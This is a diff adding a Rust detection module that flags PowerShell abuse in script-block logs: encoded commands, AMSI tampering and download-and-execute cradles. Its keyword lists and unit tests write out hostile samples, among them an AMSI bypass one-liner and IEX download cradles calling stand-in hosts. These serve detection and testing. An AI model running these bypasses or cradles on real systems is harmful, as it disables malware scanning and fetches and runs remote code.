@@ -0,0 +1,263 @@
+// PowerShell abuse (R027-R030). Script block logging (Event ID 4104) records scripts after
+// PowerShell decoded them, so a cradle hidden behind `-EncodedCommand` or string concatenation
+// shows up in plain text there. Matching is on lowercased text with backtick escapes and simple
+// `'a'+'b'` concatenation removed; it is deliberately literal so every finding can be explained by
+// the marker it quotes.
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Indicator {
+  /// `powershell -EncodedCommand <base64>`, or base64 decoded and run in-line.
+  EncodedCommand,
+  /// Tampering with the Antimalware Scan Interface so later scripts go unscanned.
+  AmsiBypass,
+  /// Code downloaded and run in one go (`IEX (New-Object Net.WebClient).DownloadString(..)`).
+  DownloadCradle,
+}
+
+impl Indicator {
+  pub fn label(self) -> &'static str {
+    match self {
+      Indicator::EncodedCommand => "encoded command",
+      Indicator::AmsiBypass => "AMSI bypass",
+      Indicator::DownloadCradle => "download cradle",
+    }
+  }
+}
+
+/// An indicator found in a script or command line, with the marker that matched and the text
+/// around it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ScriptMatch {
+  pub indicator: Indicator,
+  pub marker: String,
+  pub excerpt: String,
+}
+
+const POWERSHELL_IMAGES: &[&str] = &["powershell.exe", "pwsh.exe", "powershell_ise.exe"];
+
+/// Fields PowerShell's AMSI integration uses internally; scripts have no business touching them.
+const AMSI_MARKERS: &[&str] = &[
+  "amsiinitfailed",
+  "amsiutils",
+  "amsiscanbuffer",
+  "amsicontext",
+  "amsiopensession",
+];
+
+const DOWNLOAD_MARKERS: &[&str] = &[
+  "downloadstring(",
+  "downloaddata(",
+  "downloadfile(",
+  "net.webclient",
+  "invoke-webrequest",
+  "invoke-restmethod",
+  "start-bitstransfer",
+  "msxml2.xmlhttp",
+  "winhttp.winhttprequest",
+];
+const DOWNLOAD_ALIASES: &[&str] = &["iwr", "irm"];
+
+const EXECUTE_MARKERS: &[&str] = &["invoke-expression", "[scriptblock]::create"];
+const EXECUTE_ALIASES: &[&str] = &["iex"];
+
+/// Base64 arguments shorter than this are not worth flagging (and are rarely real payloads).
+const MIN_ENCODED_LEN: usize = 20;
+
+/// Characters kept on each side of a marker in `ScriptMatch::excerpt`.
+const EXCERPT_CONTEXT: usize = 60;
+
+pub fn is_powershell_image(image_path: &str) -> bool {
+  let p = image_path.to_ascii_lowercase();
+  let name = p.rsplit(['\\', '/']).next().unwrap_or(&p);
+  POWERSHELL_IMAGES.contains(&name)
+}
+
+/// `-EncodedCommand` (or any abbreviation PowerShell accepts: `-e`, `-enc`, `-ec`, ...) followed by
+/// a base64 argument.
+pub fn encoded_command(command_line: &str) -> Option<ScriptMatch> {
+  let tokens: Vec<&str> = command_line.split_whitespace().collect();
+  tokens.windows(2).find_map(|w| {
+    let param = w[0].trim_matches(['"', '\'']);
+    let arg = w[1].trim_matches(['"', '\'']);
+    if !is_encoded_param(param) || !looks_base64(arg) {
+      return None;
+    }
+    Some(ScriptMatch {
+      indicator: Indicator::EncodedCommand,
+      marker: param.to_ascii_lowercase(),
+      excerpt: excerpt(command_line, command_line.find(w[0]).unwrap_or(0)),
+    })
+  })
+}
+
+/// Every indicator found in a script block, one match per indicator.
+pub fn scan_script(text: &str) -> Vec<ScriptMatch> {
+  let norm = normalize(text);
+  let mut out = Vec::new();
+
+  let encoded = encoded_command(&norm).or_else(|| {
+    let at = norm.find("frombase64string")?;
+    find_execute(&norm)?;
+    Some(ScriptMatch {
+      indicator: Indicator::EncodedCommand,
+      marker: "frombase64string".to_string(),
+      excerpt: excerpt(&norm, at),
+    })
+  });
+  out.extend(encoded);
+
+  if let Some((marker, at)) = find_any(&norm, AMSI_MARKERS) {
+    out.push(ScriptMatch {
+      indicator: Indicator::AmsiBypass,
+      marker: marker.to_string(),
+      excerpt: excerpt(&norm, at),
+    });
+  }
+
+  let download =
+    find_any(&norm, DOWNLOAD_MARKERS).or_else(|| find_any_word(&norm, DOWNLOAD_ALIASES));
+  if let (Some((marker, at)), Some(_)) = (download, find_execute(&norm)) {
+    out.push(ScriptMatch {
+      indicator: Indicator::DownloadCradle,
+      marker: marker.to_string(),
+      excerpt: excerpt(&norm, at),
+    });
+  }
+  out
+}
+
+fn is_encoded_param(token: &str) -> bool {
+  let Some(name) = token.strip_prefix(['-', '/']) else {
+    return false;
+  };
+  let name = name.to_ascii_lowercase();
+  name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name))
+}
+
+fn looks_base64(s: &str) -> bool {
+  s.len() >= MIN_ENCODED_LEN
+    && s
+      .bytes()
+      .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
+}
+
+fn normalize(text: &str) -> String {
+  let mut s = text.to_lowercase().replace('`', "");
+  for concat in ["'+'", "' + '", "\"+\"", "\" + \""] {
+    s = s.replace(concat, "");
+  }
+  s
+}
+
+fn find_execute(norm: &str) -> Option<(&'static str, usize)> {
+  find_any(norm, EXECUTE_MARKERS).or_else(|| find_any_word(norm, EXECUTE_ALIASES))
+}
+
+fn find_any(haystack: &str, markers: &[&'static str]) -> Option<(&'static str, usize)> {
+  markers
+    .iter()
+    .find_map(|m| haystack.find(m).map(|at| (*m, at)))
+}
+
+/// Like `find_any`, but short aliases (`iex`) only count as whole words, not inside `complex`.
+fn find_any_word(haystack: &str, words: &[&'static str]) -> Option<(&'static str, usize)> {
+  let is_word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '-' || c == '_');
+  words.iter().find_map(|w| {
+    haystack
+      .match_indices(w)
+      .find(|(at, _)| {
+        !is_word(haystack[..*at].chars().next_back())
+          && !is_word(haystack[at + w.len()..].chars().next())
+      })
+      .map(|(at, _)| (*w, at))
+  })
+}
+
+/// Up to `EXCERPT_CONTEXT` characters on each side of byte offset `at`, on one line.
+fn excerpt(text: &str, at: usize) -> String {
+  let start = text[..at]
+    .char_indices()
+    .rev()
+    .nth(EXCERPT_CONTEXT - 1)
+    .map_or(0, |(i, _)| i);
+  let end = text[at..]
+    .char_indices()
+    .nth(EXCERPT_CONTEXT)
+    .map_or(text.len(), |(i, _)| at + i);
+  let mut out = text[start..end]
+    .split_whitespace()
+    .collect::<Vec<_>>()
+    .join(" ");
+  if start > 0 {
+    out.insert_str(0, "...");
+  }
+  if end < text.len() {
+    out.push_str("...");
+  }
+  out
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+
+  fn indicators(text: &str) -> Vec<Indicator> {
+    scan_script(text).into_iter().map(|m| m.indicator).collect()
+  }
+
+  #[test]
+  fn finds_encoded_commands_in_command_lines() {
+    let payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=";
+    for param in ["-enc", "-EncodedCommand", "-e", "/ec", "-EnCo"] {
+      let cmd = format!("powershell.exe -NoP -W Hidden {param} {payload}");
+      let m = encoded_command(&cmd).unwrap();
+      assert_eq!(m.indicator, Indicator::EncodedCommand);
+      assert_eq!(m.marker, param.to_ascii_lowercase());
+    }
+    assert!(encoded_command("powershell.exe -ExecutionPolicy Bypass -File a.ps1").is_none());
+    assert!(encoded_command("powershell.exe -enc abc").is_none());
+
+    assert!(is_powershell_image(
+      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    ));
+    assert!(is_powershell_image(
+      "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
+    ));
+    assert!(!is_powershell_image("C:\\Temp\\notpowershell.exe"));
+  }
+
+  #[test]
+  fn flags_amsi_bypass_and_download_cradles() {
+    assert_eq!(
+      indicators(
+        "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
+      ),
+      vec![Indicator::AmsiBypass]
+    );
+    assert_eq!(
+      indicators("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
+      vec![Indicator::DownloadCradle]
+    );
+    assert_eq!(
+      indicators("i`ex (iwr 'http://example.test/x').Content"),
+      vec![Indicator::DownloadCradle]
+    );
+    assert_eq!(
+      indicators("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))"),
+      vec![Indicator::EncodedCommand]
+    );
+
+    // Downloading without running it, or `iex` inside another word, is ordinary.
+    assert!(indicators("Invoke-WebRequest -Uri $url -OutFile setup.msi").is_empty());
+    assert!(indicators("$complex = Invoke-RestMethod $api").is_empty());
+  }
+
+  #[test]
+  fn excerpt_is_bounded_and_single_line() {
+    let text = format!("{}\n\tIEX $x\n{}", "a".repeat(200), "b".repeat(200));
+    let m = &scan_script(&format!("{text} Net.WebClient"))[0];
+    assert!(m.excerpt.len() <= 2 * EXCERPT_CONTEXT + 6);
+    assert!(!m.excerpt.contains('\n'));
+    assert!(m.excerpt.starts_with("..."));
+  }
+}